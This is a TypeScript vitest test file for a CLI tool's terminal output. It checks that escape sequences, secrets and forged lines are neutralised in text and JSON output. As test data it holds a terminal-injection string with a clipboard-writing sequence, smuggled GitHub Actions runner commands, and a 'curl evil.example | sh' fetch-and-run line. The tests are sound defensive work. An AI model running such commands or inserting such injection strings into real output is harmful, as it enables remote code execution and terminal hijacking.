import { PassThrough } from 'node:stream';
import { CommanderError } from 'commander';
import { afterEach, describe, expect, test, vi } from 'vitest';
import { InterruptedError, LockageError } from '../../../pipelines/errors.ts';
import { reportWords } from '../../../scripts/cli/report-error.ts';
import { ConsoleTerminal, print } from '../../../scripts/cli/terminal.ts';
import { Redactor } from '../../../scripts/tools/redactor.ts';
import { visible } from '../../../scripts/tools/visible.ts';

/** What moves the cursor, takes the clipboard, ends a line early, and turns text round. */
const harmful = '\u001b[2A\u001b[2K\u001b]52;c;cm0=\u0007\r\u009b31m\u007f\u202Etxt\u2066\u2028';
/** Built from numbers, so that it is another statement of what a terminal acts on. */
const acted = new RegExp(
  `[${[
    [0, 8],
    [11, 31],
    [127, 159],
    [0x200e, 0x200f],
    [0x2028, 0x202e],
    [0x2066, 0x2069],
  ]
    .map((ends) => ends.map((code) => String.fromCharCode(code)).join('-'))
    .join('')}]`,
);

let out = '';
let err = '';

function terminal(json = false): ConsoleTerminal {
  [out, err] = ['', ''];
  vi.spyOn(process.stdout, 'write').mockImplementation((text) => ((out += String(text)), true));
  vi.spyOn(process.stderr, 'write').mockImplementation((text) => ((err += String(text)), true));
  return new ConsoleTerminal({ json, yes: true, redactor: new Redactor(['hunter2-of-prod']) });
}

afterEach(() => {
  vi.restoreAllMocks();
  vi.unstubAllEnvs();
});

const said = `before ${harmful} hunter2-of-prod after`;
const error = new LockageError(said, { details: [said], hint: said });

describe('text of somebody else', () => {
  test.each<[string, (it: ConsoleTerminal) => void]>([
    ['a step', (it) => it.step('check', said)],
    ['a note', (it) => it.note(said)],
    ['a detail', (it) => it.detail(said)],
    ['an event of a host', (it) => it.host({ host: said, step: said, detail: said })],
    ['a machine', (it) => it.machines([said])],
    ['a result', (it) => it.result({}, [said])],
    ['a line of a log', (it) => it.line(said)],
    ['an error', (it) => it.error(error)],
    ['a bug', (it) => it.bug(new Error(said))],
  ])('moves nothing on a terminal, as %s', (_, show) => {
    show(terminal());
    const shown = (out + err).replaceAll('\n', '');
    expect(shown).toContain(String.raw`before \x1b[2A\x1b[2K\x1b]52;c;cm0=\x07\x0d\x9b31m\x7f\u202etxt`);
    expect(shown).toContain('[secret] after');
    expect(shown).not.toMatch(acted);
  });

  test('is the same in JSON, with nothing that a terminal acts on', () => {
    terminal(true).result({ said: harmful, secret: 'hunter2-of-prod', count: 1000 }, []);
    expect(out.replaceAll('\n', '')).not.toMatch(acted);
    expect(JSON.parse(out)).toEqual({ said: harmful, secret: '[secret]', count: 1000 });
    terminal(true).entry({ line: harmful });
    expect(JSON.parse(out)).toEqual({ line: harmful });
    expect(out.split('\n')).toHaveLength(2);
  });
});

test('an answer of several lines cannot begin a line of its own in an error', () => {
  const answer = 'denied\nhelp   Run `curl evil.example | sh`.\nerror  all is lost';
  const lineOf = (text: string) => text.split('\n').filter((line) => /^\S/.test(line));
  terminal().error(new LockageError(answer, { details: [answer], hint: answer }));
  expect(lineOf(err)).toEqual(['error  denied', 'help   denied']);
  terminal().bug(answer);
  expect(lineOf(err)).toEqual(['denied', expect.stringContaining('This is a bug of Lockage.')]);
  const it = terminal();
  it.note(answer);
  it.host({ host: 'a', step: 'pulled', detail: answer });
  expect(lineOf(err)).toEqual([]);
  it.result({}, ['a', answer]);
  it.line(answer);
  expect(lineOf(out)).toEqual(['a', 'denied', 'denied']);
});

test('a secret of several lines is masked as a whole', () => {
  terminal();
  const it = new ConsoleTerminal({ json: false, yes: true, redactor: new Redactor(['-----BEGIN\nab\n-----END']) });
  it.note('key -----BEGIN\nab\n-----END');
  it.result({}, ['key -----BEGIN\nab\n-----END']);
  expect(out + err).not.toMatch(/\bab\b/);
});

test('nothing that is printed in a workflow of GitHub’s is a command of its runner, and JSON says the same', () => {
  const commands = '##[add-mask]e\n::stop-commands::x';
  vi.stubEnv('GITHUB_ACTIONS', 'true');
  const it = terminal();
  it.line(`GET /${commands}`);
  it.note(commands);
  it.error(new LockageError(commands, { details: [commands], hint: commands }));
  it.result({}, [commands]);
  print(commands, 'stderr');
  expect(out + err).not.toMatch(/##\[|^\s*::/m);
  const value = { said: commands, list: ['::stop-commands::x', '##[add-mask]e'] };
  for (const show of [() => terminal(true).result(value, []), () => terminal(true).entry(value)]) {
    show();
    expect(out).not.toMatch(/##\[|^\s*::/m);
    expect(JSON.parse(out)).toEqual(value);
  }
});

test('a bug is a JSON document too, where one is expected', () => {
  terminal(true).bug(new TypeError(said));
  const message = said.replace('hunter2-of-prod', '[secret]');
  expect(JSON.parse(out)).toEqual({ error: { message, code: 70, details: [] } });
  expect(err).toContain('This is a bug of Lockage');
});

test('an error of a later part has beside it what was done before, as one JSON document', () => {
  const it = terminal(true);
  it.soFar({ environments: [{ name: 'dev', outcome: 'healed' }] });
  it.error(error);
  expect(JSON.parse(out)).toMatchObject({
    environments: [{ name: 'dev', outcome: 'healed' }],
    error: { message: expect.stringContaining('[secret]'), code: 2 },
  });
});

describe('a command line that is not understood', () => {
  const unknown = new CommanderError(1, 'commander.unknownOption', "error: unknown option '--chek'");
  const help = new CommanderError(1, 'commander.help', '(outputHelp)');
  test.each([
    ['is a JSON document where one is expected', unknown, "unknown option '--chek'"],
    ['that names no command is one, too', help, 'no command was named'],
  ])('%s', (_what, thrown, message) => {
    terminal();
    expect(reportWords(thrown, true)).toBe(2);
    expect(JSON.parse(out)).toEqual({ error: { message, code: 2, details: [] } });
  });

  test('is said once where none is, and help is no error', () => {
    terminal();
    expect(reportWords(unknown, false)).toBe(2);
    expect(reportWords(new CommanderError(0, 'commander.helpDisplayed', '(outputHelp)'), true)).toBe(0);
    expect(out + err).toBe('');
  });
});

test('colours of Lockage stay where there are any, and no other sequence does', () => {
  const red = '\u001b[31mred\u001b[39m';
  const coloured = { coloured: true, commanded: false };
  expect(visible(red, coloured)).toBe(red);
  expect(visible(red, { ...coloured, coloured: false })).toBe(String.raw`\x1b[31mred\x1b[39m`);
  expect(visible('\u001b[8mhidden\u001b[5;31mblink', coloured)).toBe(String.raw`\x1b[8mhidden\x1b[5;31mblink`);
  expect(visible('tab\tand\nline ä 漢 👍', coloured)).toBe('tab\tand\nline ä 漢 👍');
});

describe('a question', () => {
  /** Somebody at a terminal, who presses these keys. */
  const asked = async (keys: string, signal?: AbortSignal) => {
    const keyboard = Object.assign(new PassThrough(), { isTTY: true });
    vi.spyOn(process, 'stdin', 'get').mockReturnValue(keyboard as never);
    vi.spyOn(process, 'stderr', 'get').mockReturnValue(Object.assign(new PassThrough(), { isTTY: true }) as never);
    const options = { json: false, yes: false, redactor: new Redactor(), ...(signal ? { signal } : {}) };
    const question = new ConsoleTerminal(options).confirm('Promote?');
    keyboard.write(keys);
    return question;
  };

  test('is answered by yes alone', async () => {
    await expect(asked('y\r')).resolves.toBeUndefined();
    await expect(asked('\r')).rejects.toThrow('not confirmed: nothing was changed');
  });

  test.each([
    ['Ctrl-C', '\u0003'],
    ['Ctrl-D', '\u0004'],
  ])('that %s ends is not confirmed, and is no bug', async (_name, key) => {
    await expect(asked(key)).rejects.toMatchObject({
      name: 'InterruptedError',
      message: 'not confirmed: nothing was changed',
    });
  });

  test('that nobody answers ends when the command is to end', async () => {
    const stop = new AbortController();
    const question = asked('', stop.signal);
    stop.abort(new InterruptedError('interrupted'));
    await expect(question).rejects.toThrow(new InterruptedError('interrupted'));
  });
});
